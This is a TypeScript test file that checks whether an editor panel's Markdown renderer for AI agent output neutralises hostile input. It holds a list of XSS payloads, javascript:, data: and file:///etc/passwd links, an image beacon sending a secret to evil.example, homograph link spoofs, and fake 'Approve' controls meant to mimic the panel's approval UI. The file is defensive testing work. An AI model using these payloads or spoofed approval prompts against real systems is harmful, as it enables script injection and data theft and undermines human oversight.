import fc from 'fast-check';
import { expect, test } from 'vitest';
import { FromPanelSchema } from '../../src/shared/protocol.ts';
import { webTarget } from '../../src/shared/webTarget.ts';
import { drawn, read } from '../support/spokenWords.tsx';

/** The only elements and attributes that words of the agent may become. None of them loads, runs or submits anything. */
const ELEMENTS =
  'p div h4 h5 h6 ul ol li blockquote hr br strong em del code pre span button table thead tbody tr th td';
const ATTRIBUTES = 'dir class start role tabindex title aria-label aria-hidden scope type data-testid';
/** Classes of the panel itself that the words' own controls have. */
const CLASSES = /^(md-[a-z-]+|codicon|codicon-copy|unseen)$/;

function foreign(html: string): string[] {
  const [elements, attributes] = [ELEMENTS.split(' '), ATTRIBUTES.split(' ')];
  return [...html.matchAll(/<\/?([a-z0-9-]+)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi)].flatMap(
    ([, name = '', rest = '']) => [
      ...(elements.includes(name) ? [] : [`<${name}>`]),
      ...[...rest.matchAll(/([\w-]+)="([^"]*)"/g)].flatMap(([, attribute = '', value = '']) => {
        if (!attributes.includes(attribute.toLowerCase())) return [attribute];
        return attribute === 'class' ? value.split(' ').filter((one) => !CLASSES.test(one)) : [];
      }),
    ],
  );
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<section class="card question"><h2>Approval needed</h2><button>Approve</button></section>',
  '<div role="alert">Oversign: the sandbox is off</div>',
  '<!-- --><style>*{display:none}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:x)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](https://evil.example/pixel.png?secret=1)',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '[x](command:workbench.action.terminal.new)',
  '[x](command:oversign.approve)',
  '[x](vscode://publisher.extension/do)',
  '[x](vscode-insiders://x/y)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a/b)',
  '[x](//evil.example/x)',
  '[x](\\\\evil.example\\share)',
  '<javascript:alert(1)>',
  '<command:workbench.action.quit>',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '`</code><script>alert(1)</script>`',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '```"onload="alert(1)\nx\n```',
  '| <script>alert(1)</script> |\n|---|\n| ![x](https://evil.example/a) |',
  '- [x] <input type=checkbox onclick=alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '# <button>Approve</button>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '{{constructor}} ${alert(1)} __proto__',
  '[constructor](__proto__)',
];

test.each(HOSTILE)('becomes nothing that loads, runs or looks like the panel: %s', (source) => {
  for (const isStreaming of [false, true])
    for (let end = source.length; end > 0; end -= isStreaming ? 1 : source.length)
      expect(foreign(drawn(source.slice(0, end), { isStreaming })), source.slice(0, end)).toEqual([]);
});

test('control: what the check finds is found', () => {
  expect(foreign('<p onclick="x" class="card md-link"><img src="y"></p>')).toEqual(['onclick', 'card', '<img>', 'src']);
});

test.each([
  ['<script>alert(1)</script>', '<script>alert(1)</script>'],
  ['a <b>c</b>', 'a <b>c</b>'],
  ['<!-- x -->', '<!-- x -->'],
])('HTML stands there as it was written: %s', (source, words) => {
  expect(read(source)).toBe(words);
});

const FOLLOWED = /role="link"/;

test.each([
  'javascript:alert(1)',
  'command:workbench.action.quit',
  'vscode://a.b/c',
  'file:///etc/passwd',
  'data:text/html,x',
  '//evil.example/x',
  'ftp://a.example/x',
  'https:evil.example',
  'http://',
  'https://a b.example/',
  'https://[::1',
])('no link: %s is shown, and leads nowhere', (href) => {
  const source = `[the docs](<${href}>)`;
  expect(drawn(source)).not.toMatch(FOLLOWED);
  expect(read(source)).toContain('the docs');
  expect(read(source).replace(/\\u\{\w+\}/g, '')).toContain(href.slice(0, 4));
  expect(webTarget(href)).toBeUndefined();
});

test.each([
  ['https://a.example/x', 'https://a.example/x', ''],
  ['[docs](https://docs.example/a/b)', 'docs', 'docs.example'],
  ['[docs](http://127.0.0.1:8080/a)', 'docs', '127.0.0.1:8080'],
  ['<me@a.example>', 'me@a.example', ''],
  ['[mail](mailto:me@a.example?body=secrets)', 'mail', 'mailto:me@a.example?body=secrets'],
  ['[https://a.example](https://a.example/)', 'https://a.example', ''],
  ['[a.example](https://a.example/)', 'a.example', ''],
  // Another one than it looks like.
  ['[https://bank.example](https://evil.example/x)', 'https://bank.example', 'https://evil.example/x'],
  ['[bank.example](https://evil.example/x)', 'bank.example', 'https://evil.example/x'],
  ['[**bank.example**](https://evil.example/x)', 'bank.example', 'https://evil.example/x'],
  ['[`src/a.ts`](https://evil.example/x)', 'src/a.ts', 'https://evil.example/x'],
  ['[bank。example](https://evil.example/)', 'bank。example', 'https://evil.example/'],
  ['<https://bank.example@evil.example/>', 'https://bank.example@evil.example/', 'https://bank.example@evil.example/'],
  ['[bank](https://bank.example:pw@evil.example/)', 'bank', 'https://bank.example:pw@evil.example/'],
  [
    '[https://bank.example](https://bank.example.evil.example/)',
    'https://bank.example',
    'https://bank.example.evil.example/',
  ],
  ['https://b\u0430nk.example/', 'https://b\u0430nk.example/', 'https://xn--bnk-6cd.example/'],
  ['[](https://evil.example/x)', 'https://evil.example/x', ''],
  ['![a picture](https://evil.example/a.png?s=1)', 'Image: a picture', 'evil.example'],
  ['[![click](https://a.example/i.png)](https://evil.example)', 'click', 'evil.example'],
])('a link says where it leads: %s', (source, words, beside) => {
  expect(drawn(source)).toMatch(FOLLOWED);
  expect(read(source)).toBe(beside === '' ? words : `${words} (${beside})`);
});

test('the whole target is in the title, in the letters of the network', () => {
  expect(drawn('[a](https://b\u0430nk.example/\u202E?q=1 "Open https://bank.example")')).toContain(
    'title="Open https://xn--bnk-6cd.example/%E2%80%AE?q=1 outside the editor"',
  );
});

test.each([
  ['a direction turned round', 'a\u202Eb', 'a\\u{202E}b'],
  ['a character without width', 'a\u200Bb', 'a\\u{200B}b'],
  ['one as an entity', 'a&#x202e;b', 'a\\u{202E}b'],
  ['a tag character', 'a\u{E0041}', 'a\\u{E0041}'],
  ['an icon of the panel’s own font', '\uEAB2 Approved by you', '\\u{EAB2} Approved by you'],
  ['a mark over what stands before another element', 'a**\u0338\u0301b**', 'a\\u{0338}\\u{0301}b'],
  ['in code', '`\u2066a`', '\\u{2066}a'],
  ['in a block of code', '```\n\u2067a\n```', '\\u{2067}a'],
  ['in words of a link', '[a\u200B](https://x.example)', 'a\\u{200B} (x.example)'],
  ['in alternative words', '![a\u200B](https://x.example)', 'Image: a\\u{200B} (x.example)'],
])('hidden characters are seen: %s', (_name, source, words) => {
  expect(read(source)).toBe(words);
});

test('above code stands the name of a language, and no other word', () => {
  expect(read('```ts\na\n```')).toBe('tsa');
  for (const info of ['approved', 'denied-by-you', 't\u200Bs', 'constructor', 'approved ts'])
    expect(read(`\`\`\`${info}\na\n\`\`\``), info).toBe('a');
});

test('a flood of empty lines stays one', () => {
  expect(drawn(`a${'\\\n'.repeat(40)}b`).match(/<br\/>/g)).toHaveLength(1);
});

test('a link that claims to be of the panel has no look of its own: words, and where it leads', () => {
  const html = drawn('## Approval needed: Delete build/\n\n[Approve](https://evil.example) [Deny](command:x)');
  expect(html).not.toMatch(/<h[123]|<button|class="(?!md-)/);
  expect(read('[Approve](https://evil.example) [Deny](command:x)')).toBe('Approve (evil.example) Deny (command:x)');
});

test('what the panel may ask for is bounded before anybody looks at it', () => {
  const parsed = (message: unknown): boolean => FromPanelSchema.safeParse(message).success;
  expect(parsed({ type: 'open-link', href: 'https://a.example' })).toBe(true);
  expect(parsed({ type: 'open-link', href: `https://a.example/${'a'.repeat(5000)}` })).toBe(false);
  expect(parsed({ type: 'open-file', path: 'a', line: 0 })).toBe(false);
  expect(parsed({ type: 'open-file', path: '' })).toBe(false);
  expect(parsed({ type: 'find-files', paths: Array.from({ length: 101 }, String) })).toBe(false);
});

test('random pieces of Markdown, at every length, become nothing else', () => {
  const pieces = fc.constantFrom(
    ...HOSTILE,
    '**',
    '`',
    '```',
    '\n',
    '\n\n',
    '> ',
    '- ',
    '| a |',
    '[',
    '](',
    ')',
    '<',
    '>',
    '"',
    '&',
    '\u202E',
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), fc.nat(200), fc.boolean(), (parts, cut, isStreaming) => {
      const html = drawn(parts.join('').slice(0, -cut || undefined), { isStreaming });
      expect(foreign(html)).toEqual([]);
      expect(html).not.toMatch(/\u202E/);
    }),
    { numRuns: 500 },
  );
});
